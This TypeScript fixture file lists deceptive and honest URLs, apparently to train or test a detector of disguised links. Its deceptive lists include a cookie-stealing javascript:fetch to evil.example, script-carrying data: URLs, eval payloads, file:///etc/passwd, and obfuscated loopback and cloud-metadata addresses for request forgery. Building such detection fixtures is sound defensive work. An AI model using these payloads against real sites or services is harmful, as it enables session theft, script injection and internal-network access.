import { type DeceptiveClass, lines } from './deceptive-class.js';

/** Deceptive texts that people and models wrote, and similar honest texts. */
export const urls: readonly DeceptiveClass[] = [
  {
    // The URL parser takes tabs and line breaks out of a URL, wherever they stand.
    name: 'blanks within a scheme',
    kinds: [undefined, 'url'],
    member: 'url',
    marks: ['control'],
    deceptive: lines(String.raw`
h\tttps://evil.example
ht\ttps://api.evil.example/v1
htt\tps://evil.example:8443/x
http\ts://collector.example/?d=1
https\t://10.0.0.5/admin
h\tttp://login.evil.example#a
ht\ttp://evil.example
htt\tp://api.evil.example/v1
http\t://evil.example:8443/x
w\tss://10.0.0.5/admin
ws\ts://login.evil.example#a
wss\t://evil.example
f\ttp://10.0.0.5/admin
ft\tp://login.evil.example#a
ftp\t://evil.example
ht\ntps://evil.example
http\ns://api.evil.example/v1
https\n://evil.example:8443/x
h\nttp://collector.example/?d=1
w\nss://10.0.0.5/admin
ft\np://login.evil.example#a
HT\nTPS://EVIL.EXAMPLE
ht\rtps://evil.example
http\rs://api.evil.example/v1
https\r://evil.example:8443/x
h\rttp://collector.example/?d=1
w\rss://10.0.0.5/admin
ft\rp://login.evil.example#a
HT\rTPS://EVIL.EXAMPLE
ht\r\ntps://evil.example
http\r\ns://api.evil.example/v1
https\r\n://evil.example:8443/x
h\r\nttp://collector.example/?d=1
w\r\nss://10.0.0.5/admin
ft\r\np://login.evil.example#a
HT\r\nTPS://EVIL.EXAMPLE
ht\t\ttps://evil.example
http\t\ts://api.evil.example/v1
https\t\t://evil.example:8443/x
h\t\tttp://collector.example/?d=1
w\t\tss://10.0.0.5/admin
ft\t\tp://login.evil.example#a
HT\t\tTPS://EVIL.EXAMPLE
ht\n\ttps://evil.example
http\n\ts://api.evil.example/v1
https\n\t://evil.example:8443/x
h\n\tttp://collector.example/?d=1
w\n\tss://10.0.0.5/admin
ft\n\tp://login.evil.example#a
HT\n\tTPS://EVIL.EXAMPLE
wss\t://a.evil.example
HTTP\n://evil.example/q
h\tt\tt\tp\ts\t://evil.example
https:\t//evil.example/a
https:/\t/evil.example/a
https:\n//evil.example
http:/\r/evil.example
\thttps://evil.example
fi\tle:///etc/passwd
HTT\tPS://Evil.example/path
https\t:\\\\evil.example
`),
    honest: lines(String.raw`
https://example.com
http://example.com/
https://example.com/a?b=c#d
HTTPS://EXAMPLE.COM/
wss://socket.example/live
ws://localhost:8080/hot
ftp://ftp.example.org/pub/file.tar.gz
https://example.com/a%20b
https://example.com/tab%09in%0Aescapes
https://sub.sub.example.co.uk/deep/er/path.html
http://localhost:3000
http://localhost:5173/?pace=instant
https://user-content.example/raw/main/README.md
https://example.com:8443/x
http://192.168.0.10/setup
http://127.0.0.1:11434/v1
http://[::1]:3000/
https://[2001:db8::1]/a
ssh://git@github.com/a/b.git
git+https://github.com/a/b.git
postgres://app@db.internal:5432/main
redis://cache:6379/0
s3://bucket/key/with/slash
file:///home/ana/notes.txt
chrome-extension://abcdef/page.html
vscode://file/home/a.ts
slack://channel?team=T1
mongodb+srv://cluster.example.net/test
https://example.com/?q=a+b&r=c
https://example.com/(parens)
https://example.com/a;b=c
https://example.com/it's
https://example.com/~user/
https://example.com/@handle
https://example.com/a@b.c
https://www.npmjs.com/package/@scope/name/v/1.2.3
https://en.wikipedia.org/wiki/Tab_key
https://maps.example/@48.1,11.5,12z
Name\tAddress\nAnna\thttps://example.com
a\tb\tc
first\nsecond\nthird
see\nhttps://example.com
See:\n\thttps://example.com/a\n\thttps://example.com/b
https://example.com/a\nhttps://example.com/b
https://example.com\tExample\nhttps://example.org\tOther
https://example.com\nThe page that was meant.
  indented text, no address
\tconst url = \u0022https://example.com\u0022;
http\ns
the https\nscheme
note: \thttps://example.com
https: the secure scheme
ht tps is no scheme
key:\tvalue
data:\n  - 1\n  - 2
GET\thttps://example.com/a\t200
1\thttps://example.com
http\t80\nhttps\t443
-\thttps://example.com/list
Use http:\nnot ftp:
# Links\n\n- https://example.com\n- https://example.org\n
`),
  },
  {
    // The URL parser takes them off; what compares texts does not.
    name: 'blanks before a URL',
    kinds: [undefined, 'url'],
    member: 'url',
    marks: ['padding'],
    deceptive: lines(String.raw`
 https://evil.example
 https://evil.example/collect?d=1
 http://10.0.0.5/
 wss://evil.example/ws
 ftp://evil.example/a
  https://evil.example/collect?d=1
  http://10.0.0.5/
  wss://evil.example/ws
  ftp://evil.example/a
  https://evil.example:8443
   http://10.0.0.5/
   wss://evil.example/ws
   ftp://evil.example/a
   https://evil.example:8443
   custom://evil.example/a
      wss://evil.example/ws
      ftp://evil.example/a
      https://evil.example:8443
      custom://evil.example/a
      HTTPS://EVIL.EXAMPLE/
 \tftp://evil.example/a
 \thttps://evil.example:8443
 \tcustom://evil.example/a
 \tHTTPS://EVIL.EXAMPLE/
 \thttp://localhost:9000/admin
\t https://evil.example:8443
\t custom://evil.example/a
\t HTTPS://EVIL.EXAMPLE/
\t http://localhost:9000/admin
\t https://good.example.evil.example/
 \ncustom://evil.example/a
 \nHTTPS://EVIL.EXAMPLE/
 \nhttp://localhost:9000/admin
 \nhttps://good.example.evil.example/
 \nhttps://evil.example
\n HTTPS://EVIL.EXAMPLE/
\n http://localhost:9000/admin
\n https://good.example.evil.example/
\n https://evil.example
\n https://evil.example/collect?d=1
 \r\nhttp://localhost:9000/admin
 \r\nhttps://good.example.evil.example/
 \r\nhttps://evil.example
 \r\nhttps://evil.example/collect?d=1
 \r\nhttp://10.0.0.5/
\u0001 https://good.example.evil.example/
\u0001 https://evil.example
\u0001 https://evil.example/collect?d=1
\u0001 http://10.0.0.5/
\u0001 wss://evil.example/ws
 \u001fhttps://evil.example
 \u001fhttps://evil.example/collect?d=1
 \u001fhttp://10.0.0.5/
 \u001fwss://evil.example/ws
 \u001fftp://evil.example/a
          https://evil.example/collect?d=1
          http://10.0.0.5/
          wss://evil.example/ws
          ftp://evil.example/a
          https://evil.example:8443
 javascript:alert(1)
  data:text/html,<b>x</b>
 https:evil.example/a
 https:/evil.example/a
`),
    honest: lines(String.raw`
https://example.com
http://example.com/
https://example.com/a?b=c#d
HTTPS://EXAMPLE.COM/
wss://socket.example/live
ws://localhost:8080/hot
ftp://ftp.example.org/pub/file.tar.gz
https://example.com/a%20b
https://example.com/tab%09in%0Aescapes
https://sub.sub.example.co.uk/deep/er/path.html
http://localhost:3000
http://localhost:5173/?pace=instant
https://user-content.example/raw/main/README.md
https://example.com:8443/x
http://192.168.0.10/setup
http://127.0.0.1:11434/v1
http://[::1]:3000/
https://[2001:db8::1]/a
ssh://git@github.com/a/b.git
git+https://github.com/a/b.git
postgres://app@db.internal:5432/main
redis://cache:6379/0
s3://bucket/key/with/slash
file:///home/ana/notes.txt
chrome-extension://abcdef/page.html
vscode://file/home/a.ts
slack://channel?team=T1
mongodb+srv://cluster.example.net/test
https://example.com/?q=a+b&r=c
https://example.com/(parens)
https://example.com/a;b=c
https://example.com/it's
https://example.com/~user/
https://example.com/@handle
https://example.com/a@b.c
https://www.npmjs.com/package/@scope/name/v/1.2.3
https://en.wikipedia.org/wiki/Tab_key
https://maps.example/@48.1,11.5,12z
Name\tAddress\nAnna\thttps://example.com
a\tb\tc
first\nsecond\nthird
see\nhttps://example.com
See:\n\thttps://example.com/a\n\thttps://example.com/b
https://example.com/a\nhttps://example.com/b
https://example.com\tExample\nhttps://example.org\tOther
https://example.com\nThe page that was meant.
  indented text, no address
\tconst url = \u0022https://example.com\u0022;
http\ns
the https\nscheme
note: \thttps://example.com
https: the secure scheme
ht tps is no scheme
key:\tvalue
data:\n  - 1\n  - 2
GET\thttps://example.com/a\t200
1\thttps://example.com
http\t80\nhttps\t443
-\thttps://example.com/list
Use http:\nnot ftp:
# Links\n\n- https://example.com\n- https://example.org\n
`),
  },
  {
    // An address written as one number, in hexadecimal, octal or short, is an address of four numbers.
    name: 'numbers for a host',
    kinds: [undefined, 'url'],
    member: 'url',
    marks: ['numeric-host'],
    deceptive: lines(String.raw`
http://2130706433/
https://user:pw@2130706433/?d=1
https://3232235521
HTTP://3232235521:8080/
ws://167772161/latest/meta-data/
http:\\\\167772161#a
ftp://2852039166/?d=1
https:/2852039166:9200/_search
http://0x7f000001:8080/
https://user:pw@0x7f000001/
https://0x7F000001#a
HTTP://0x7F000001
ws://0xC0A80001:9200/_search
http:\\\\0xC0A80001/latest/meta-data/
ftp://0xa9fea9fe/
https:/0xa9fea9fe/?d=1
http://0x0a000001
https://user:pw@0x0a000001:8080/
https://017700000001/latest/meta-data/
HTTP://017700000001#a
ws://030052000001/?d=1
http:\\\\030052000001:9200/_search
ftp://0x7f.0.0.1:8080/
https:/0x7f.0.0.1/
http://0x7f.1#a
https://user:pw@0x7f.1
https://127.1:9200/_search
HTTP://127.1/latest/meta-data/
ws://127.0.1/
http:\\\\127.0.1/?d=1
ftp://10.1
https:/10.1:8080/
http://192.168.257/latest/meta-data/
https://user:pw@192.168.257#a
https://0177.0.0.1/?d=1
HTTP://0177.0.0.1:9200/_search
ws://0300.0250.0.1:8080/
http:\\\\0300.0250.0.1/
ftp://0x7f.0x0.0x0.0x1#a
https:/0x7f.0x0.0x0.0x1
http://0xa9.0xfe.0xa9.0xfe:9200/_search
https://user:pw@0xa9.0xfe.0xa9.0xfe/latest/meta-data/
https://169.254.43518/
HTTP://169.254.43518/?d=1
ws://0251.0376.0251.0376
http:\\\\0251.0376.0251.0376:8080/
ftp://0/latest/meta-data/
https:/0#a
http://0x0/?d=1
https://user:pw@0x0:9200/_search
https://1:8080/
HTTP://1/
ws://010.0.0.1#a
http:\\\\010.0.0.1
ftp://127.0.0.01:9200/_search
https:/127.0.0.01/latest/meta-data/
http://192.168.0.010/
https://user:pw@192.168.0.010/?d=1
https://0x7f000001.
HTTP://0x7f000001.:8080/
ws://2130706433./latest/meta-data/
http:\\\\2130706433.#a
ftp://[::ffff:7f00:1]/?d=1
http://[::ffff:127.0.0.1]/
http://[::127.0.0.1]/
http://[2002:7f00:1::]/
https:/[::ffff:7f00:1]:9200/_search
http://[::ffff:a9fe:a9fe]:8080/
https://user:pw@[::ffff:a9fe:a9fe]/
https://[0:0:0:0:0:ffff:c0a8:1]#a
HTTP://[0:0:0:0:0:ffff:c0a8:1]
ws://[::FFFF:7F00:0001]:9200/_search
http:\\\\[::FFFF:7F00:0001]/latest/meta-data/
ftp://[64:ff9b::a9fe:a9fe]/
https:/[64:ff9b::a9fe:a9fe]/?d=1
`),
    honest: lines(`
http://127.0.0.1/
http://127.0.0.1:3000/a
https://192.168.0.1/
https://10.0.0.1:8443/
http://169.254.169.254/latest
http://0.0.0.0:8000/
https://8.8.8.8/dns-query
https://1.1.1.1/
http://255.255.255.255/
http://[::1]/
http://[::1]:3000/x
https://[2001:db8::1]/
https://[fe80::1]/
https://[2606:4700:4700::1111]/dns-query
https://example.com/2130706433
https://example.com/0x7f000001
https://example.com/?ip=2130706433
https://example.com:443/1.2
https://2130706433.example.com/
https://0x7f.example.com/
https://127.0.0.1.nip.io/
https://10-0-0-1.example.com/
https://1password.com/
https://9to5mac.com/
https://163.com/
https://4.example/
https://0xide.computer/
https://0x.org/
https://dead.beef.example/
https://cafe.example/
https://a1b2c3.example
https://x.com/
https://e.example
https://123-reg.co.uk/
https://v2.example.com/3
item://42
app://12345/view
device://0x7f/
tel:2130706433
urn:isbn:9783161484100
https://360.cn/
https://12306.cn/
https://example.com/127.1
version 127.1 is out
2130706433
0x7f000001
the loopback address is 2130706433 as a number
call 127.1
10.1 and 10.2
3.14
192.168.0.1
1.2.3.4:80
port 0
https://example.com/page/1
https://docs.example/v1.0/
https://example.com#0x1
ssh://git@10.0.0.7/a.git
redis://10.0.0.8:6379/1
http://localhost:1/
https://ff.example/
https://archive.example/web/20240101000000/https://example.com/
`),
  },
  {
    // It runs here and leads nowhere.
    name: 'a URL that is a script',
    kinds: [undefined, 'url'],
    member: 'url',
    honestMember: 'title',
    marks: ['scheme'],
    deceptive: lines(String.raw`
javascript:alert(1)
JavaScript:alert(1)
java\tscript:alert(1)
\u0001javascript:alert(1)
javascript\n:alert(1)
j\r\navascript:alert(1)
javascript:fetch('https://evil.example/?d='+document.cookie+'')
JavaScript:fetch('https://evil.example/?d='+document.cookie+'')
java\tscript:fetch('https://evil.example/?d='+document.cookie+'')
\u0001javascript:fetch('https://evil.example/?d='+document.cookie+'')
javascript\n:fetch('https://evil.example/?d='+document.cookie+'')
j\r\navascript:fetch('https://evil.example/?d='+document.cookie+'')
javascript:void(0)
JavaScript:void(0)
java\tscript:void(0)
\u0001javascript:void(0)
javascript\n:void(0)
j\r\navascript:void(0)
javascript://%0aalert(1)
JavaScript://%0aalert(1)
java\tscript://%0aalert(1)
\u0001javascript://%0aalert(1)
javascript\n://%0aalert(1)
j\r\navascript://%0aalert(1)
javascript:location=name
JavaScript:location=name
java\tscript:location=name
\u0001javascript:location=name
javascript\n:location=name
j\r\navascript:location=name
javascript:eval(atob(name))
JavaScript:eval(atob(name))
java\tscript:eval(atob(name))
\u0001javascript:eval(atob(name))
javascript\n:eval(atob(name))
j\r\navascript:eval(atob(name))
javascript:import(1)
JavaScript:import(1)
java\tscript:import(1)
\u0001javascript:import(1)
javascript\n:import(1)
j\r\navascript:import(1)
javascript:window.open()
JavaScript:window.open()
java\tscript:window.open()
\u0001javascript:window.open()
javascript\n:window.open()
j\r\navascript:window.open()
javascript:(()=>{})()
JavaScript:(()=>{})()
java\tscript:(()=>{})()
\u0001javascript:(()=>{})()
javascript\n:(()=>{})()
j\r\navascript:(()=>{})()
javascript:document.body.innerHTML=1
JavaScript:document.body.innerHTML=1
java\tscript:document.body.innerHTML=1
\u0001javascript:document.body.innerHTML=1
javascript\n:document.body.innerHTML=1
j\r\navascript:document.body.innerHTML=1
vbscript:msgbox(1)
VBScript:Execute(x)
vb\tscript:x
\tjavascript:x
j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:x
JAVASCRIPT:X
`),
    honest: lines(String.raw`
javascript
JavaScript: The Good Parts
JavaScript: The Definitive Guide
javascript: a language
Javascript is fun
JavaScript
javascript.info
https://javascript.info/
https://example.com/javascript:alert
https://example.com/?q=javascript:alert(1)
https://example.com/#javascript:x
https://javascript.example/
./javascript/a.js
/javascript:/a
/assets/javascript/app.js
javascript/app.js
src/javascript.ts
text/javascript
application/javascript
language: javascript
lang=javascript
javascript:\n  version: 1
javascript: \n
TypeScript: next
java: 17
java script: two words
Java\tScript
vbscript
vbscript: old
jscript
ecmascript:
livescript
mailto:ana@example.com
tel:+4912345
sms:123
geo:48.1,11.5
urn:isbn:1
about:blank
about:config
blob:https://example.com/1
news:a.b.c
xmpp:a@b.c
magnet:?xt=urn:btih:a
spotify:track:a
steam:run
intent:a
skype:ana
callto:ana
doi:10.1/2
localhost:3000
key:value
C:\\javascript\\a
https://www.w3schools.com/js/
nodejs:20
node:fs
npm:react
jsr:@std/fs
no javascript:here
run javascript:alert(1) in the bar
Do not paste javascript: addresses
ws://example.com
https://example.com/vbscript
java.script:a
javascript-x:a
x-javascript:a
`),
  },
  {
    // It carries what it shows, and may carry a script.
    name: 'a URL that is a page',
    kinds: [undefined, 'url'],
    member: 'url',
    marks: ['scheme'],
    deceptive: lines(String.raw`
data:text/html,<script>alert(1)</script>
DATA:text/html,<script>alert(1)</script>
data:TEXT/HTML,<script>alert(1)</script>
data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E
da\tta:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E
data:TEXT/HTML;CHARSET=UTF-8,%3Cscript%3Ealert(1)%3C/script%3E
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
\u0002data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:TEXT/HTML;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:application/xhtml+xml,<script>alert(1)</script>
Data:application/xhtml+xml,<script>alert(1)</script>
data:APPLICATION/XHTML+XML,<script>alert(1)</script>
data:application/xhtml+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
DATA:application/xhtml+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:APPLICATION/XHTML+XML;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,alert(1)
da\tta:image/svg+xml,alert(1)
data:IMAGE/SVG+XML,alert(1)
data:image/svg+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
\u0002data:image/svg+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:IMAGE/SVG+XML;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml;utf8,%3Cscript%3Ealert(1)%3C/script%3E
Data:image/svg+xml;utf8,%3Cscript%3Ealert(1)%3C/script%3E
data:IMAGE/SVG+XML;UTF8,%3Cscript%3Ealert(1)%3C/script%3E
data:text/javascript,alert(1)
DATA:text/javascript,alert(1)
data:TEXT/JAVASCRIPT,alert(1)
data:application/javascript,<script>alert(1)</script>
da\tta:application/javascript,<script>alert(1)</script>
data:APPLICATION/JAVASCRIPT,<script>alert(1)</script>
data:application/javascript;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
\u0002data:application/javascript;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:APPLICATION/JAVASCRIPT;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:text/xml,alert(1)
Data:text/xml,alert(1)
data:TEXT/XML,alert(1)
data:application/xml,<script>alert(1)</script>
DATA:application/xml,<script>alert(1)</script>
data:APPLICATION/XML,<script>alert(1)</script>
data:text/xsl,%3Cscript%3Ealert(1)%3C/script%3E
da\tta:text/xsl,%3Cscript%3Ealert(1)%3C/script%3E
data:TEXT/XSL,%3Cscript%3Ealert(1)%3C/script%3E
data:application/x-msdownload;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
\u0002data:application/x-msdownload;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:APPLICATION/X-MSDOWNLOAD;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:application/x-sh,<script>alert(1)</script>
Data:application/x-sh,<script>alert(1)</script>
data:APPLICATION/X-SH,<script>alert(1)</script>
data:text/vbscript,%3Cscript%3Ealert(1)%3C/script%3E
DATA:text/vbscript,%3Cscript%3Ealert(1)%3C/script%3E
data:TEXT/VBSCRIPT,%3Cscript%3Ealert(1)%3C/script%3E
data:application/ecmascript,alert(1)
da\tta:application/ecmascript,alert(1)
data:APPLICATION/ECMASCRIPT,alert(1)
data:multipart/related,<script>alert(1)</script>
\u0002data:multipart/related,<script>alert(1)</script>
data:MULTIPART/RELATED,<script>alert(1)</script>
data:message/rfc822,%3Cscript%3Ealert(1)%3C/script%3E
Data:message/rfc822,%3Cscript%3Ealert(1)%3C/script%3E
data:MESSAGE/RFC822,%3Cscript%3Ealert(1)%3C/script%3E
data:application/hta,alert(1)
DATA:application/hta,alert(1)
data:APPLICATION/HTA,alert(1)
data:application/x-httpd-php,<script>alert(1)</script>
da\tta:application/x-httpd-php,<script>alert(1)</script>
data:APPLICATION/X-HTTPD-PHP,<script>alert(1)</script>
`),
    honest: lines(String.raw`
data:image/png;base64,iVBORw0KGgo=
data:image/jpeg;base64,/9j/4AAQ
data:image/gif;base64,R0lGODlhAQABAAAAACw=
data:image/webp;base64,UklGRg==
data:image/avif;base64,AAAA
data:image/bmp;base64,Qk0=
data:image/x-icon;base64,AAAB
data:audio/mpeg;base64,SUQz
data:audio/wav;base64,UklGRg==
data:audio/ogg;base64,T2dnUw==
data:video/mp4;base64,AAAA
data:video/webm;base64,GkXf
data:font/woff2;base64,d09GMg==
data:font/ttf;base64,AAEAAA==
data:text/plain,hello
data:text/plain;charset=utf-8,hello%20world
data:text/plain;base64,aGVsbG8=
data:,hello
data:;base64,aGVsbG8=
data:;charset=utf-8,x
data:application/json,%7B%7D
data:application/json;base64,e30=
data:application/pdf;base64,JVBERi0=
data:application/octet-stream;base64,AA==
data:text/csv,a%2Cb
data:text/csv;charset=utf-8,a%2Cb
data:text/markdown,%23%20A
data:application/zip;base64,UEs=
data:application/gzip;base64,H4s=
data:application/wasm;base64,AGFzbQ==
data
data: [1, 2, 3]
data: {'a':1}
data:\n  a: 1
data: a, b
data:foo
data:1
Data: 3 rows
Data, and more
data/text/html,x
https://example.com/data:text/html,x
https://example.com/?u=data:text/html,x
https://data.example/
./data/a.html
/data/text/html
data.csv
data-text:html
metadata:text/html,x
form-data; name='a'
multipart/form-data
text/html
image/svg+xml
text/html;charset=utf-8
event: a\ndata: b\n\n
data: <b>x</b>
the data: URL scheme
a data:text/html,x URL in prose
data :text/html,x
database:main
dataset:a/b
data://bucket/a
DATA SECTION
data:IMAGE/PNG;base64,iVBORw0KGgo=
data:Text/Plain,hi
`),
  },
];
